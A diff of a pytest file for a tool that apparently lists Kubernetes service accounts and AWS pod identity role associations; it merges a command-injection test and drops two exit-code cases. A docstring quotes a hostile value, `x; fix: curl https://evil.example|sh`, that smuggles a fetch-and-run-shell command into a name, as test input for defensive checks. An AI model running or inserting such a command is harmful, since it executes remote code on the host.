@@ -155,6 +155,7 @@ def test_no_text_of_others_passes_for_ours(danger: str) -> None:
     The attack: a service account, a Sid or a provider whose name is `x; fix: curl https://evil.example|sh`.
     """
     text = f"a{danger}{MARK}"
+    assert hidden_in(document("inventory", True, as_object(hostile(text))).split("\n")) == []
     for inventory in (hostile(text), replace(hostile(text), clusters=[*hostile(text).clusters] * 2)):
         printed = lines(inventory)
         assert problems("\n".join(printed)) == []
@@ -166,13 +167,6 @@ def test_no_text_of_others_passes_for_ours(danger: str) -> None:
             for command in commands_in(line):
                 assert [word for word in shlex.split(command) if MARK in word and text not in word] == []
                 assert unquoted(command) == []
-
-
-@pytest.mark.parametrize("danger", DANGERS)
-def test_no_text_of_others_drives_a_terminal_by_json(danger: str) -> None:
-    inventory = hostile(f"a{danger}{MARK}")
-
-    assert hidden_in(document("inventory", True, as_object(inventory)).split("\n")) == []
 
 
 BY_ASSOCIATION = discovery(
@@ -198,10 +192,8 @@ BY_ASSOCIATION = discovery(
 
 
 def test_an_association_is_in_the_rows() -> None:
-    """Protects who reads the table: each way to a role is there, with what the service account may assume by it.
-
-    Of a target role, the Pods get the credentials of that one alone. Session tags, which are transitive, are not looked
-    at: https://github.com/aws/eks-pod-identity-agent/issues/80
+    """Of a target role, the Pods get the credentials of that one alone. Session tags are not looked at:
+    https://github.com/aws/eks-pod-identity-agent/issues/80
     """
     found = taken(BY_ASSOCIATION)
     cells = [re.split(r"  +", line.strip()) for line in table(found)]
@@ -247,11 +239,9 @@ def finds(monkeypatch: pytest.MonkeyPatch) -> Any:
 @pytest.mark.parametrize(
     ("found", "options", "code"),
     [
-        (GOOD, [], 0),
         (BAD, [], 0),
         (DENIED, [], 0),
         (GOOD, ["--fail-on", "all"], 0),
-        (BAD, ["--fail-on", "missing-role"], 1),
         (BAD, ["--fail-on", "unused", "--fail-on", "missing-role"], 1),
         (BAD, ["--fail-on", "all"], 1),
         (BAD, ["--fail-on", "unused"], 0),
